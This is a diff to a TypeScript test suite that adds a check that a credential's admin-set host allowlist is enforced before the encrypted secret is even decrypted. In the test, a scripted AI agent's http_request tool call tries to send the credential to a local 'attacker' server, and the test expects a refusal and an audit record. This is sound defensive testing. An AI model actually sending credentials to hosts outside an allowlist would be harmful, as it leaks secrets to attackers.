@@ -1,5 +1,6 @@
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Actor } from '../helpers/api-client.ts';
 import { openEventStream } from '../helpers/event-stream.ts';
@@ -387,6 +388,28 @@ describe('http_request sends a credential only to its allowed hosts', () => {
     expect(refused.error ?? JSON.stringify(refused.output)).toContain('may not be sent to');
     expect(honest.received.length).toBe(before);
     attacker.received.length = 0;
+  });
+});
+
+describe('an admin’s explicit list', () => {
+  it('is checked before the stored blob is even opened', async () => {
+    const key = await toolKey();
+    const set = await t.call(admin, 'PUT', `/api/credentials/${key.id}`, {
+      allowed_hosts: ['api.example.com'],
+    });
+    expect(set.statusCode, set.body).toBe(200);
+    // A blob that cannot be decrypted: a refusal that came after decryption would say so.
+    await t.rows(sql`update credentials set encrypted_data = 'v1.AAAA.AAAA' where id = ${key.id}`);
+    const agent = await buildAgent(t, admin, {
+      model: null,
+      tools: [{ name: 'http_request', config: { credentials: [key.id] } }],
+    });
+    llm.reply({ type: 'tool_calls', calls: [http_request(attacker.url, key.id)] });
+    const run = await runAgent(agent.id);
+    expect(run.steps[0].tool_calls[0].error).toContain(`may not be sent to 127.0.0.1:${attacker.port}`);
+    const actions = (await vaultAudit(key.id)).map((record) => [record.action, record.metadata.reason]);
+    expect(actions.at(-1)).toEqual(['access_denied', 'destination_not_allowed']);
+    expect(actions.some(([action]) => action === 'access_failed')).toBe(false);
   });
 });
 
